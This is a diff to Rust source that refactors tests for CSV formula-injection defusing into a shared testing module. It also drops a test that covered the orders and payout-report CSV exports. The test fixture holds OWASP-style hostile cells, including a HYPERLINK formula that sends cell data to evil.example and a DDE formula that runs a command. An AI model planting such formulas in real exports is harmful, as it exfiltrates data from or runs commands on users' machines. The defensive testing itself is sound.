@@ -95,13 +95,13 @@ where
     w.finish()
 }
 
+/// Hostile cells and checks shared by every CSV writer's tests.
 #[cfg(test)]
-mod tests {
-    use super::*;
-    use serde_json::json;
+pub(crate) mod testing {
+    use super::{plain_number, TRIGGERS};
 
     /// Payloads from OWASP's CSV Injection page and their variants.
-    const HOSTILE: &[&str] = &[
+    pub(crate) const HOSTILE: &[&str] = &[
         "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"open\")",
         "=1+1",
         "+1+cmd|' /C calc'!A0",
@@ -114,7 +114,7 @@ mod tests {
     ];
 
     /// Every cell of `csv`, parsed as a spreadsheet would split it.
-    fn cells(csv: &str) -> Vec<String> {
+    pub(crate) fn cells(csv: &str) -> Vec<String> {
         let mut r = csv::ReaderBuilder::new()
             .has_headers(false)
             .flexible(true)
@@ -131,7 +131,7 @@ mod tests {
 
     /// No cell a spreadsheet would run: every one starting with a trigger
     /// is a plain number.
-    fn assert_defused(what: &str, csv: &str) {
+    pub(crate) fn assert_defused(what: &str, csv: &str) {
         for c in cells(csv) {
             assert!(
                 !c.starts_with(TRIGGERS) || plain_number(&c),
@@ -139,6 +139,12 @@ mod tests {
             );
         }
     }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::testing::*;
+    use super::*;
 
     #[test]
     fn cells_are_defused_and_numbers_stay_numbers() {
@@ -154,62 +160,5 @@ mod tests {
         let out = write(&["a", "b"], [["x,\"y\"", "=1"], ["-2.5", "\r\nz"]]);
         assert_eq!(out, "a,b\r\n\"x,\"\"y\"\"\",'=1\r\n-2.5,\"'\r\nz\"\r\n");
         assert_defused("write", &out);
-    }
-
-    /// Every CSV writer of the product, fed TikTok text that is a formula.
-    #[test]
-    fn every_csv_the_product_writes_defuses_formulas() {
-        use crate::domain::{OrderId, ShopId};
-        use crate::payouts::plan::{JournalLine, JournalPlan};
-        use crate::payouts::report as payout_report;
-        use crate::store::{OrderLogEntry, Outcome, SyncStatus};
-        use crate::taxonomy::{ErrorCode, Failure};
-
-        for p in HOSTILE {
-            // The orders export (CLI `orders export`, console `/orders.csv`).
-            let o = Outcome {
-                shop_id: ShopId::new(*p),
-                order_id: OrderId::new(*p),
-                tiktok_status: p.to_string(),
-                sync_status: SyncStatus::Failed,
-                netsuite_id: None,
-                external_id: Some(p.to_string()),
-                note: String::new(),
-                failure: Some(Failure::new(ErrorCode::UnlinkedProduct, *p, *p)),
-                failed_skus: vec![p.to_string(), "B".into()],
-                at: 0,
-                event: None,
-            };
-            let orders = crate::ops::to_csv(&[OrderLogEntry::apply(None, &o)]);
-            assert_defused("orders export", &orders);
-            assert!(orders.contains(&defuse(p).replace('"', "\"\"")), "{orders}");
-
-            // The payout report's transactions attachment.
-            let statement = json!({"transactions": [{
-                "id": p, "type": p, "order_id": p, "adjustment_id": p,
-                "settlement_amount": "-7.20", "revenue_amount": "45.00",
-            }]});
-            let rows = payout_report::rows(&statement, &|_| false);
-            let report = payout_report::csv(&rows);
-            assert_defused("payout transactions", &report);
-            assert!(report.contains(",-7.20,45.00,"), "{report}");
-
-            // The payout report's journal-lines attachment.
-            let plan = JournalPlan {
-                external_id: p.to_string(),
-                statement_id: p.to_string(),
-                currency: "USD".into(),
-                lines: vec![JournalLine {
-                    account: p.to_string(),
-                    debit: Default::default(),
-                    credit: Default::default(),
-                    memo: p.to_string(),
-                }],
-                unknown_fee_keys: Default::default(),
-                transactions_by_type: Default::default(),
-                variances: vec![],
-            };
-            assert_defused("payout journal", &payout_report::journal_csv(&plan));
-        }
     }
 }
